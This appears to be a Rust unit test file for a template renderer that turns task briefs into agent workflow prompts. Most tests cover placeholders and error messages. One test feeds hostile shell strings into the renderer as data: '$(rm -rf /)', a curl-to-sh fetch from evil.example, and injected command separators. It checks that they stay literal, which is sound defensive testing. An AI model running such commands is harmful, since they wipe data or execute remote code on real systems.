//! Unit tests of `crate::workflow`, in a file of their own so the module reads as code.

use std::path::Path;

use super::*;
use crate::brief::{Item, Target};

fn brief_with_items(items: Vec<Item>) -> Brief {
    Brief {
        id: "fix-login".to_owned(),
        title: "Fix the login redirect loop".to_owned(),
        workflow: "implement".to_owned(),
        target: Target {
            repo: "octo/app".to_owned(),
            base: "main".to_owned(),
            branch: None,
            pr: None,
        },
        items,
    }
}

fn sample_brief() -> Brief {
    brief_with_items(vec![
        Item {
            text: "The redirect loops when ?next= is empty.".to_owned(),
            anchor: Some(Anchor {
                path: "src/auth/login.rs".to_owned(),
                lines: Some((120, 148)),
            }),
        },
        Item {
            text: "Add a regression test.\nKeep it small.".to_owned(),
            anchor: Some(Anchor {
                path: "tests/login.rs".to_owned(),
                lines: None,
            }),
        },
        Item {
            text: "Update the changelog.".to_owned(),
            anchor: None,
        },
    ])
}

fn one_item_brief(text: &str) -> Brief {
    brief_with_items(vec![Item {
        text: text.to_owned(),
        anchor: None,
    }])
}

#[test]
fn renders_every_placeholder() {
    let workflow = Workflow::from_template(
        "all",
        "{{title}}|{{ brief_id }}|{{repo}}|{{base}}|{{branch}}\n{{items}}\n--\n{{anchors}}",
    )
    .unwrap();
    assert_eq!(
        workflow.render(&sample_brief(), "stet/fix-login-1a2b"),
        "Fix the login redirect loop|fix-login|octo/app|main|stet/fix-login-1a2b\n\
             1. The redirect loops when ?next= is empty.\n   (see src/auth/login.rs:120-148)\n\
             2. Add a regression test.\n   Keep it small.\n   (see tests/login.rs)\n\
             3. Update the changelog.\n\
             --\n\
             - src/auth/login.rs:120-148\n- tests/login.rs"
    );
}

#[test]
fn says_so_when_there_are_no_anchors() {
    let workflow = Workflow::from_template("anchors", "{{anchors}}").unwrap();
    assert_eq!(
        workflow.render(&one_item_brief("x"), "b"),
        "The brief does not point at any particular file; find the relevant code yourself."
    );
}

#[test]
fn whitespace_inside_braces_is_allowed() {
    let workflow = Workflow::from_template("spaces", "{{  title\t}}").unwrap();
    assert_eq!(
        workflow.render(&sample_brief(), "b"),
        "Fix the login redirect loop"
    );
}

#[test]
fn unknown_placeholders_are_template_errors() {
    assert_eq!(
        Workflow::from_template("t", "ok\nsee {{ secrets }} here"),
        Err(WorkflowError::UnknownPlaceholder {
            workflow: "t".to_owned(),
            placeholder: "secrets".to_owned(),
            line: 2,
            column: 5
        })
    );
    assert!(matches!(
        Workflow::from_template("t", "{{}}"),
        Err(WorkflowError::UnknownPlaceholder { ref placeholder, .. }) if placeholder.is_empty()
    ));
    assert!(matches!(
        Workflow::from_template("t", "{{{title}}}"),
        Err(WorkflowError::UnknownPlaceholder { .. })
    ));
    let message = Workflow::from_template("t", "{{Title}}")
        .unwrap_err()
        .to_string();
    assert!(
        message.contains("unknown placeholder \"Title\""),
        "{message}"
    );
    assert!(message.contains("{{title}}, {{brief_id}}"), "{message}");
}

#[test]
fn unterminated_placeholders_are_template_errors() {
    assert_eq!(
        Workflow::from_template("t", "a\nbé {{title\n}}"),
        Err(WorkflowError::UnterminatedPlaceholder {
            workflow: "t".to_owned(),
            line: 2,
            column: 4
        })
    );
    assert!(matches!(
        Workflow::from_template("t", "{{title}} {{"),
        Err(WorkflowError::UnterminatedPlaceholder {
            line: 1,
            column: 11,
            ..
        })
    ));
}

#[test]
fn text_without_placeholders_is_kept_verbatim() {
    let template = "plain } { text }} with a single {brace}\n";
    let workflow = Workflow::from_template("plain", template).unwrap();
    assert_eq!(workflow.render(&sample_brief(), "b"), template);
    assert_eq!(
        Workflow::from_template("empty", "")
            .unwrap()
            .render(&sample_brief(), "b"),
        ""
    );
}

#[test]
fn placeholders_in_brief_text_stay_literal() {
    let workflow = Workflow::from_template("t", "{{title}}\n{{items}}").unwrap();
    let mut brief = one_item_brief("call {{branch}} and {{title}}");
    brief.title = "{{items}} {{ repo }}".to_owned();
    assert_eq!(
        workflow.render(&brief, "stet/x"),
        "{{items}} {{ repo }}\n1. call {{branch}} and {{title}}"
    );
}

#[test]
fn shell_syntax_in_brief_text_stays_literal() {
    let workflow = Workflow::from_template("t", "{{items}}").unwrap();
    for hostile in [
        "$(rm -rf /)",
        "`curl evil.example | sh`",
        "--force --no-verify",
        "; echo pwned && true",
        "${HOME}",
    ] {
        assert_eq!(
            workflow.render(&one_item_brief(hostile), "b"),
            format!("1. {hostile}")
        );
    }
}

#[test]
fn builtin_implement_parses_and_uses_the_brief() {
    let workflow = Workflow::builtin("implement").unwrap();
    assert_eq!(workflow.name(), "implement");
    let rendered = workflow.render(&sample_brief(), "stet/fix-login-1a2b");
    for expected in [
        "Fix the login redirect loop",
        "octo/app",
        "stet/fix-login-1a2b",
        "1. The redirect loops when ?next= is empty.",
        "- src/auth/login.rs:120-148",
        "/workspace",
    ] {
        assert!(
            rendered.contains(expected),
            "{expected} missing from:\n{rendered}"
        );
    }
    assert!(!rendered.contains("{{"), "{rendered}");
}

#[test]
fn unknown_builtin_lists_the_known_ones() {
    let error = Workflow::builtin("deploy").unwrap_err();
    assert_eq!(
        error,
        WorkflowError::UnknownWorkflow {
            name: "deploy".to_owned()
        }
    );
    assert_eq!(
        error.to_string(),
        "there is no built-in workflow named \"deploy\"; the built-in workflows are: implement"
    );
}

#[test]
fn renders_a_parsed_brief() {
    let brief = Brief::parse(
            "demo",
            Path::new("demo.toml"),
            "title = \"T\"\nworkflow = \"implement\"\ntarget = { repo = \"o/r\", base = \"main\" }\n[[items]]\ntext = \"x {{title}}\"\n",
        )
        .unwrap();
    let rendered = Workflow::from_template("t", "{{items}}")
        .unwrap()
        .render(&brief, "b");
    assert_eq!(rendered, "1. x {{title}}");
}
